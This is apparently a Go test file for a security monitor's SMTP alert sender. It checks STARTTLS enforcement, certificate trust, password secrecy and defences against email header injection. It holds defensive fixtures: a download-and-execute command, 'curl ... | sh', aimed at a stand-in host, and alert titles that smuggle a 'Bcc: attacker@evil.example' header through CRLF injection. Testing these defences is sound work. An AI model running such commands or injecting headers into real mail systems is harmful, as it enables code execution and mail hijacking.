package alert

import (
	"io"
	"mime"
	"net/mail"
	"strings"
	"testing"
	"time"

	"github.com/clawhold/clawhold/monitor/alert/alerttest"
)

// startMailServer starts a real SMTP server on loopback (alerttest);
// withTLS offers STARTTLS with a certificate ms.Pool trusts. It accepts
// AUTH for alerts / s3cret-pw, in plaintext too, so a client that would
// send its password without TLS is caught.
func startMailServer(t *testing.T, withTLS bool) *alerttest.MailServer {
	return alerttest.StartMailServer(t, withTLS, "alerts", "s3cret-pw")
}

func snapshot(ms *alerttest.MailServer) (auths []string, authTLS []bool, mails int, msgs []alerttest.Mail) {
	auths, authTLS = ms.Auths()
	return auths, authTLS, ms.MailCommands(), ms.Messages()
}

func testAlert() Alert {
	return Alert{
		ID: "0123abcd", Time: time.Date(2026, 11, 25, 3, 40, 0, 0, time.UTC), Tenant: "acme", Rule: "cmd.download-exec",
		Severity: Critical, Title: "curl piped to sh", Description: "A cell downloaded and ran a script.\n.\nA line with only a dot above.",
		Technique: "T1105", User: "bob", Subject: "cell web", Evidence: map[string]any{"cmdline": "curl -s http://x.example | sh"}, Count: 1,
	}
}

func TestSMTPStartTLSAuthDelivery(t *testing.T) {
	ms := startMailServer(t, true)
	s, err := NewSMTP(SMTPConfig{Name: "mail", Address: ms.Addr, From: "clawhold <clawhold@example.com>", To: []string{"sec@example.com", "Ops Team <ops@example.com>"},
		Username: "alerts", Password: []byte("s3cret-pw"), RootCAs: ms.Pool, Hostname: "host.test"})
	if err != nil {
		t.Fatal(err)
	}
	a := testAlert()
	a.Title = "curl piped to sh\r\nBcc: attacker@evil.example\r\n\r\nforged body ü"
	if err := s.Send(t.Context(), a); err != nil {
		t.Fatal(err)
	}
	auths, authTLS, _, msgs := snapshot(ms)
	if len(auths) != 1 || auths[0] != "alerts:s3cret-pw" || !authTLS[0] {
		t.Fatalf("AUTH = %v over TLS %v", auths, authTLS)
	}
	if len(msgs) != 1 || !msgs[0].TLS || msgs[0].From != "clawhold@example.com" || strings.Join(msgs[0].To, ",") != "sec@example.com,ops@example.com" {
		t.Fatalf("messages = %+v", msgs)
	}
	m, err := mail.ReadMessage(strings.NewReader(string(msgs[0].Data)))
	if err != nil {
		t.Fatal(err)
	}
	subj, err := new(mime.WordDecoder).DecodeHeader(m.Header.Get("Subject"))
	if err != nil {
		t.Fatal(err)
	}
	if subj != "[clawhold] CRITICAL: curl piped to sh  Bcc: attacker@evil.example    forged body ü" {
		t.Fatalf("Subject = %q", subj)
	}
	if m.Header.Get("Bcc") != "" || len(m.Header) != 12 {
		t.Fatalf("header injection: %v", m.Header)
	}
	if d, err := m.Header.Date(); err != nil || !d.Equal(a.Time) {
		t.Fatalf("Date = %v, %v", d, err)
	}
	if id := m.Header.Get("Message-ID"); !strings.HasPrefix(id, "<0123abcd.") || !strings.HasSuffix(id, "@host.test>") {
		t.Fatalf("Message-ID = %q", id)
	}
	if from, err := m.Header.AddressList("From"); err != nil || from[0].Address != "clawhold@example.com" {
		t.Fatalf("From = %v, %v", from, err)
	}
	if to, err := m.Header.AddressList("To"); err != nil || len(to) != 2 || to[1].Name != "Ops Team" {
		t.Fatalf("To = %v, %v", to, err)
	}
	body, _ := io.ReadAll(m.Body)
	text := string(body)

	// An ASCII title is not encoded: still no header injection.
	a.Title = "x\nBcc: attacker@evil.example"
	if err := s.Send(t.Context(), a); err != nil {
		t.Fatal(err)
	}
	_, _, _, msgs = snapshot(ms)
	m2, err := mail.ReadMessage(strings.NewReader(string(msgs[1].Data)))
	if err != nil || m2.Header.Get("Bcc") != "" || m2.Header.Get("Subject") != "[clawhold] CRITICAL: x Bcc: attacker@evil.example" {
		t.Fatalf("ASCII injection: %v %v", m2.Header, err)
	}
	for _, want := range []string{"Rule:       cmd.download-exec", "Technique:  T1105", "curl -s http://x.example | sh", "\r\n.\r\nA line with only a dot"} {
		if !strings.Contains(text, want) {
			t.Errorf("body lacks %q:\n%s", want, text)
		}
	}
}

func TestSMTPRefusesWithoutStartTLS(t *testing.T) {
	ms := startMailServer(t, false) // offers AUTH in plaintext, no STARTTLS
	s, err := NewSMTP(SMTPConfig{Name: "mail", Address: ms.Addr, From: "c@example.com", To: []string{"sec@example.com"},
		Username: "alerts", Password: []byte("s3cret-pw")})
	if err != nil {
		t.Fatal(err)
	}
	err = s.Send(t.Context(), testAlert())
	if err == nil || !IsPermanent(err) || !strings.Contains(err.Error(), "STARTTLS") {
		t.Fatalf("sent without STARTTLS: %v", err)
	}
	auths, _, mails, msgs := snapshot(ms)
	if len(auths) != 0 || mails != 0 || len(msgs) != 0 {
		t.Fatalf("the server saw AUTH %v, %d MAIL, %d messages", auths, mails, len(msgs))
	}
	if strings.Contains(err.Error(), "s3cret-pw") {
		t.Fatal("error reveals the password")
	}
}

func TestSMTPRefusesUntrustedCertificate(t *testing.T) {
	ms := startMailServer(t, true)
	s, _ := NewSMTP(SMTPConfig{Name: "mail", Address: ms.Addr, From: "c@example.com", To: []string{"sec@example.com"},
		Username: "alerts", Password: []byte("s3cret-pw")}) // system roots only
	err := s.Send(t.Context(), testAlert())
	if err == nil || !IsPermanent(err) {
		t.Fatalf("untrusted certificate accepted: %v", err)
	}
	if auths, _, mails, _ := snapshot(ms); len(auths) != 0 || mails != 0 {
		t.Fatalf("AUTH %v, MAIL %d after a failed handshake", auths, mails)
	}
}

func TestSMTPNoneOnlyOnLoopback(t *testing.T) {
	ms := startMailServer(t, false)
	s, err := NewSMTP(SMTPConfig{Name: "relay", Address: ms.Addr, From: "c@example.com", To: []string{"sec@example.com"}, StartTLS: "none"})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Send(t.Context(), testAlert()); err != nil {
		t.Fatal(err)
	}
	if _, _, _, msgs := snapshot(ms); len(msgs) != 1 || msgs[0].TLS {
		t.Fatalf("messages %+v", msgs)
	}
	for _, addr := range []string{"smtp.example.com:25", "10.0.0.1:25", "[2001:db8::1]:25"} {
		if _, err := NewSMTP(SMTPConfig{Address: addr, From: "c@example.com", To: []string{"s@example.com"}, StartTLS: "none"}); err == nil {
			t.Errorf("starttls none accepted for %s", addr)
		}
	}
	for _, bad := range []SMTPConfig{
		{Address: "nohost", From: "c@example.com", To: []string{"s@example.com"}},
		{Address: "h:25", From: "not an address", To: []string{"s@example.com"}},
		{Address: "h:25", From: "c@example.com"},
		{Address: "h:25", From: "c@example.com", To: []string{"s@example.com"}, Username: "u"},
		{Address: "h:25", From: "c@example.com", To: []string{"s@example.com"}, StartTLS: "opportunistic"},
	} {
		if _, err := NewSMTP(bad); err == nil {
			t.Errorf("accepted %+v", bad)
		}
	}
}

func TestSMTPRejectionIsPermanent(t *testing.T) {
	ms := startMailServer(t, true)
	s, _ := NewSMTP(SMTPConfig{Name: "mail", Address: ms.Addr, From: "c@example.com", To: []string{"nobody@example.com"}, RootCAs: ms.Pool})
	err := s.Send(t.Context(), testAlert())
	if err == nil || !IsPermanent(err) || !strings.Contains(err.Error(), "550") {
		t.Fatalf("rejected recipient: %v", err)
	}
	s, _ = NewSMTP(SMTPConfig{Name: "mail", Address: ms.Addr, From: "c@example.com", To: []string{"s@example.com"},
		Username: "alerts", Password: []byte("wrong"), RootCAs: ms.Pool})
	if err := s.Send(t.Context(), testAlert()); err == nil || !IsPermanent(err) || strings.Contains(err.Error(), "wrong") {
		t.Fatalf("bad password: %v", err)
	}
}
